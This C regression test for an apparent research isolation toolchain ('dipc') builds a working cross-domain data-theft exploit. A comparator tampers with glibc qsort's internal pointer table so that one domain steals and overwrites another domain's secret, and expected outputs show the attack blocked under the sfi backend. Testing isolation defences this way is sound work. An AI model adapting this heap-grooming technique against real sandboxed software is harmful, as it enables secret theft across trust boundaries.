// qsort's work area (attack round 16): for elements over 32 bytes glibc
// 2.36 sorts a table of pointers to them, which it mallocs, and at the end
// moves the elements by following it. Made through the loader's malloc in
// the running domain's heap, it was reachable by the comparator, the
// domain's own code, which runs while it lives: domain `zeta`, with no
// grant, pointed an entry at vault's page, and libc copied vault's page
// into zeta's array and zeta's element over vault's secret. Under `sfi`
// qsort runs in a libc-state window (loader/stream_memory.h): the table
// is in libc's heap. Control: under `none` zeta steals and writes.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 -I%S/Inputs %s -o %t
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=none %t 2>&1 | FileCheck %s --check-prefix=NONE
// SFI: nothing stolen
// SFI: vault's secret is now: vault-secret-42
// NONE: stole 'vault-secret-42'
// NONE: vault's secret is now: PWNED-by-zeta
#include <dipc.h>
#define S 4096u
/* zeta's array: its data lands just below vault's (domains' data sections
 * are laid out by name, descending) */
static char arr[2 * S] __attribute__((aligned(4096))) __dom("zeta") = {1};
#include "vault.h"
#include <unistd.h>

static char *g_b, *g_x, *g_guess;
static long g_k = -1;

static int cmp(const void *a, const void *b) __dom("zeta");
static int cmp(const void *a, const void *b) {
  (void)a; (void)b;
  char **tp = (char **)(g_guess + 16); /* tmp: n pointers of scratch, then tp */
  if (tp[0] == g_b && tp[1] == g_b + S) {
    tp[0] = g_x; /* libc merges *b1 after this call: the sorted table */
    g_k = (long)((size_t)(g_x - g_b) / S);
  }
  return -1;
}

long zeta(const char *secret, char *loot) __dom("zeta") __entry;
long zeta(const char *secret, char *loot) {
  g_b = arr;
  g_x = (char *)((uintptr_t)secret & ~(uintptr_t)4095);
  size_t k = (size_t)(g_x - g_b) / S;
  if (g_x < g_b || k < 2 || k > 2 + S / 8 - 1)
    return -100 - (long)k;
  /* libc's tmp: 2 * n pointers + one element */
  g_guess = malloc(2 * 2 * 8 + S);
  free(g_guess);
  for (unsigned i = 0; i < S; i++)
    arr[i] = 0;
  memcpy(arr + (secret - g_x), "PWNED-by-zeta", 14);
  /* libc's copy of element 0 becomes tp[k], read after the steal: stop */
  *(char **)(arr + (k - 2) * 8) = g_b;
  qsort(arr, 2, S, cmp);
  if (g_k < 0)
    return -1;
  const char *got = arr + (secret - g_x);
  for (int i = 0; i < 31 && got[i]; i++)
    loot[i] = got[i];
  return g_k;
}

static void vault_show(void) __dom("vault") __entry;
static void vault_show(void) {
  char m[24];
  int i = 0;
  for (; i < 16 && vault_secret[i]; i++)
    m[i] = vault_secret[i];
  m[i++] = '\n';
  write(1, "vault's secret is now: ", 23);
  write(1, m, i);
}

int main(void) {
  const char *secret = vault_address();
  char loot[32] = "";
  printf("attacking (qsort)\n");
  fflush(stdout);
  long r = zeta(secret, loot);
  printf("zeta returned %ld, dipc_errno %d\n", r, dipc_errno);
  printf(loot[0] ? "stole '%s'\n" : "nothing stolen%s\n", loot);
  fflush(stdout);
  vault_show();
  return 0;
}
